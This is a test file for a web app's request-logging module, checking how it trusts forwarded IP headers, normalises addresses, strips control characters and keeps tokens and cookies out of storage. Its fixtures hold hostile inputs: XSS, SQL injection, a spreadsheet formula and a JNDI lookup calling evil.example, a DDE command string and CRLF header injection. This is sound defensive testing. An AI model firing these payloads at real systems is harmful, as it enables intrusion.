/** R34 to R39: what is recorded of a request, where it comes from, and what is left out. */
import t from 'tap'
import { isIP } from 'node:net'
import { connect } from '../helpers/raw-http.js'
import { bearer, START, startApp } from './helper.js'

const FORWARDED = { 'x-forwarded-for': '203.0.113.66', 'x-real-ip': '203.0.113.66', forwarded: 'for=203.0.113.66', 'cf-connecting-ip': '203.0.113.66', 'true-client-ip': '203.0.113.66', 'x-client-ip': '203.0.113.66' }

/** What is wrong with where addresses come from, as it was logged. */
const warningsOf = (lines: string[]) => lines.map(line => JSON.parse(line) as { code?: string, msg: string }).filter(({ code }) => code?.startsWith('IPLOG_'))

t.test('R34: a client cannot choose its address; forwarded headers count from configured proxies only', async t => {
  const direct = await startApp(t, { server: { trustProxy: false } })
  const port = Number(new URL(await direct.app.listen({ port: 0, host: '127.0.0.1' })).port)
  const raw = await connect(port)
  const { localPort } = raw.socket
  for (let i = 0; i < 2; i++) raw.write(`GET / HTTP/1.1\r\nHost: a\r\n${Object.entries(FORWARDED).map(([name, value]) => `${name}: ${value}\r\n`).join('')}${i === 1 ? 'Connection: close\r\n' : ''}\r\n`)
  await raw.closed()
  await direct.app.database.flush()
  const { items } = await direct.app.ipTracking.list({}, { limit: 10 })
  t.strictSame(items.map(row => [row.ip, row.ipSource, row.peerIp]), [['127.0.0.1', 'socket', null], ['127.0.0.1', 'socket', null]])
  t.ok(items.every(row => row.peerPort === localPort))
  t.match(warningsOf(direct.lines), [{ code: 'IPLOG_UNEXPECTED_FORWARDED', msg: /the address is taken from the connection.*Behind a proxy, set Fastify's trustProxy/ }])
  t.equal(warningsOf(direct.lines).length, 1, 'told once')

  const behind = await startApp(t, { server: { trustProxy: '10.0.0.0/8' } })
  const { 'x-forwarded-for': _, ...others } = FORWARDED
  await behind.get('/', FORWARDED, '10.0.0.1')
  await behind.get('/', { 'x-forwarded-for': '198.51.100.1, 203.0.113.66, 10.0.0.2' }, '10.0.0.1')
  await behind.get('/', FORWARDED, '192.0.2.1')
  await behind.get('/', others, '10.0.0.1')
  await behind.app.database.flush()
  t.strictSame((await behind.app.ipTracking.list({}, { limit: 10 })).items.reverse().map(row => [row.ip, row.ipSource, row.peerIp]), [
    ['203.0.113.66', 'forwarded', '10.0.0.1'],
    ['203.0.113.66', 'forwarded', '10.0.0.1'],
    ['192.0.2.1', 'socket', null],
    ['10.0.0.1', 'socket', null]
  ], 'what the proxy says, no further; from others nothing; other headers never')
  t.strictSame(warningsOf(behind.lines), [])
  t.strictSame(behind.app.ipTracking.check(), [])
})

t.test('R34: a setting that lets clients choose, or hides them, is told once, with the remedy', async t => {
  for (const [trustProxy, code] of [[false, 'IPLOG_UNEXPECTED_FORWARDED'], [true, 'IPLOG_PERMISSIVE_TRUST_PROXY'], [1, 'IPLOG_NUMERIC_TRUST_PROXY']] as const) {
    const { app, lines, get, time } = await startApp(t, { server: { trustProxy: trustProxy as boolean } }) // the types have left out the number
    for (let i = 0; i < 10; i++) await get('/', FORWARDED, '198.51.100.1')
    t.match(app.ipTracking.check(), [{ code, message: /./, fix: /trustProxy/, since: time.now }], code)
    t.match(warningsOf(lines), [{ code }])
    t.strictSame([app.ipTracking.check().length, warningsOf(lines).length], [1, 1], `${code}: once`)
    t.match(await app.metrics.render(), new RegExp(`^doorman_address_findings\\{.*"${code}"\\} 1$`, 'm'))
  }
})

t.test('R35: addresses are stored in canonical form, or as none with what was sent marked as rejected', async t => {
  const { app, get } = await startApp(t)
  const vectors: [string, string | null][] = [
    ['192.0.2.1', '192.0.2.1'], ['192.0.2.1:5555', '192.0.2.1'], ['::ffff:192.0.2.1', '192.0.2.1'], ['::FFFF:C000:0201', '192.0.2.1'],
    ['2001:DB8::1', '2001:db8::1'], ['[2001:db8::1]:443', '2001:db8::1'], ['[2001:db8::1]', '2001:db8::1'], ['2001:0db8:0000:0000:0001:0000:0000:0001', '2001:db8::1:0:0:1'],
    ['fe80::1%eth0', 'fe80::1'], ['::', '::'], ['::1', '::1'], ['1::', '1::'],
    ['unknown', null], ['999.1.1.1', null], ['010.0.0.1', null], ['0x7f.1', null], ['2130706433', null], ['1.2.3', null], ['2001:db8::1::2', null], ['[2001:db8::1', null],
    ['192.0.2.1:99999', null], ['<script>', null], ["' OR 1=1--", null], ['a'.repeat(5000), null], ['%00', null]
  ]
  for (const [text] of vectors) await get('/', { 'x-forwarded-for': text })
  await app.database.flush()
  const rows = (await app.ipTracking.list({}, { limit: 100 })).items.reverse()
  t.strictSame(rows.map((row, i) => [vectors[i]![0], row.ip]), vectors)
  t.ok(rows.every(row => (row.ip === null) === (row.ipSource === 'rejected')))
  for (const { ip } of rows) t.ok(ip === null || isIP(ip) === 4 || new URL(`http://[${ip}]`).hostname === `[${ip}]`, ip ?? 'none')
  const { session } = await app.sessions.create({ userId: 'ada', ip: '[2001:DB8:0::1]:443' })
  t.equal(session.ip, '2001:db8::1', 'sessions as well')
  await t.rejects(app.sessions.create({ userId: 'ada', ip: 'nowhere' }), { code: 'DOORMAN_VALUE_INVALID' })
})

const NAUGHTY = [
  'a\u001b[31mred\u001b[0m', 'line\r\nInjected: yes', 'nul\0tab\tdel\u007f', 'c1\u0085\u009b', 'rtl\u202egnp.exe\u202c', 'iso\u2066late\u2069', '\ud800half', '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","x")', '+cmd|\' /C calc\'!A0', '"; DROP TABLE ip_log_rows;--', '$' + '{jndi:ldap://evil.example/a}', '😀'.repeat(600), 'x'.repeat(100_000), '%0d%0aSet-Cookie: a=b'
]

t.test('R36: what clients choose is stored bounded and without control characters, and comes out as JSON', async t => {
  const { app, db } = await startApp(t)
  for (const text of NAUGHTY) await app.inject({ url: `/${encodeURIComponent(text.replace(/[\ud800-\udfff]/g, '').slice(0, 2000))}`, headers: { 'user-agent': text, referer: `https://example.org/${text}` } })
  await app.ipTracking.report(NAUGHTY.map(text => ({ method: 'GET', path: `/${text}`, status: 200, userAgent: text, referer: text })))
  await app.database.flush()
  const { items } = await app.ipTracking.list({}, { limit: 100 })
  t.equal(items.length, 2 * NAUGHTY.length, 'each is recorded')
  for (const { path, userAgent, referer } of items) {
    for (const text of [path, userAgent ?? '', referer ?? '']) t.notMatch(text, /[\p{Cc}\p{Cs}\u202a-\u202e\u2066-\u2069]/u)
    t.ok([...userAgent ?? ''].length <= 500)
    t.ok([...path].length <= 1000)
  }
  t.strictSame(JSON.parse(JSON.stringify(items)), items)
  const agents = new Set(items.map(row => row.userAgent))
  t.ok(agents.has('=HYPERLINK("http://evil.example","x")'), 'text that is only dangerous elsewhere is kept as it is: JSON needs no more')
  t.ok(agents.has('a[31mred[0m'))
  for (const bytes of ['\u001b[31m', '\r\nInjected', '\u202e']) t.notOk(await db.contains(bytes))
  const { session } = await app.sessions.create({ userId: 'ada', userAgent: NAUGHTY.join('') })
  t.ok([...session.userAgent!].length <= 500)
  t.notMatch(session.userAgent, /\p{Cc}/u)
})

t.test('R37: queries, credentials and cookies of requests are stored nowhere', async t => {
  const { app, db, get } = await startApp(t)
  const headers = { authorization: 'Bearer SECRET-in-header', cookie: 'a=SECRET-in-cookie; sid=SECRET-in-sid', 'x-api-key': 'SECRET-in-key', referer: 'https://visible.example/reset?token=SECRET-in-referer', 'proxy-authorization': 'SECRET-in-proxy' }
  const { token } = await app.sessions.create({ userId: 'ada' })
  for (const url of [`/reset/${token}`, '/?token=SECRET-in-query', '/nowhere?a=SECRET-in-404', '/%zz?SECRET-undecodable', '/#SECRET-in-fragment']) await get(url, headers)
  await app.inject({ method: 'POST', url: '/login?user=ada&password=SECRET-in-login', headers, payload: { password: 'SECRET-in-body' } })
  await app.database.flush()
  t.ok(await db.contains('/nowhere'), 'the path is, so this search finds things')
  t.ok(await db.contains('https://visible.example'))
  t.ok(await db.contains('/reset/dm_***'), 'with a token of ours hidden')
  for (const secret of ['SECRET', token]) t.notOk(await db.contains(secret))
  await app.close()
  for (const secret of ['SECRET', token]) t.notOk(await db.contains(secret), 'nor after the close')
})

t.test('R38: each row says when, where, who and what', async t => {
  const { app, login, time } = await startApp(t, { routes: app => app.put<{ Params: { id: string } }>('/orders/:id', async (_request, reply) => reply.code(202).send('ok')) })
  const { token, id } = await login()
  time.now = START + 1234
  const port = Number(new URL(await app.listen({ port: 0, host: '127.0.0.1' })).port)
  const raw = await connect(port)
  const { localPort } = raw.socket
  raw.write(`PUT /orders/7?x=1 HTTP/1.1\r\nHost: a\r\nAuthorization: ${bearer(token).authorization}\r\nUser-Agent: UA/1\r\nReferer: https://example.org/cart?id=1\r\nConnection: close\r\n\r\n`)
  await raw.closed()
  await app.database.flush()
  const [row] = (await app.ipTracking.list({ from: START + 1 }, { limit: 1 })).items
  const { id: rowId, durationUs, requestId } = row!
  t.match(row, {
    at: START + 1234,
    ip: '127.0.0.1',
    ipSource: 'socket',
    peerIp: null,
    peerPort: localPort!,
    trustedHops: 0,
    method: 'PUT',
    path: '/orders/7',
    route: '/orders/:id',
    status: 202,
    userAgent: 'UA/1',
    referer: 'https://example.org',
    sessionId: id,
    userId: 'ada',
    outcome: 'replied'
  })
  t.ok(Number.isInteger(rowId) && Number.isInteger(durationUs) && durationUs >= 0)
  t.match(requestId, /^req-/)
  await app.inject({ url: '/', headers: { 'x-forwarded-for': '203.0.113.66, 127.0.0.1' } })
  await app.database.flush()
  t.match((await app.ipTracking.list({ ip: '203.0.113.66' }, { limit: 1 })).items, [{ ipSource: 'forwarded', peerIp: '127.0.0.1', trustedHops: 2 }], 'through which proxies')
  app.activity.record({ userId: 'ada', sessionId: id, action: 'order.placed', ip: '::ffff:192.0.2.1' })
  await app.database.flush()
  t.match((await app.activity.list({ action: 'order.placed' }, { limit: 1 })).items, [{ at: START + 1234, userId: 'ada', sessionId: id, ip: '192.0.2.1' }], 'deeds of users, too')
})

t.test('R39: what names a session in logs is a public id that opens nothing', async t => {
  const { app, db, lines, login, refusal, get } = await startApp(t, { routes: app => app.get('/log', async request => { request.log.info({ session: request.session }, 'seen') }) })
  const { token, id } = await login()
  await get('/log', bearer(token))
  await app.sessions.rotate(token)
  await refusal(token)
  await app.database.flush()
  t.match(id, /^s_[0-9a-hjkmnp-tv-z]{26}$/)
  t.notOk(token.includes(id.slice(2)) || id.includes(token.slice(3, 12)))
  t.ok((await app.ipTracking.list({ sessionId: id }, { limit: 10 })).items.length >= 1)
  t.ok((await app.activity.list({ sessionId: id }, { limit: 10 })).items.length >= 2)
  t.match(lines.join(''), id)
  t.notOk(lines.join('').includes(token) || await db.contains(token))
  t.equal((await get('/private', bearer(id))).statusCode, 401)
  t.equal((await get('/private', { cookie: `sid=${id}` })).statusCode, 401)
  t.equal(await app.sessions.info(token), null, 'and a token is no id')
})
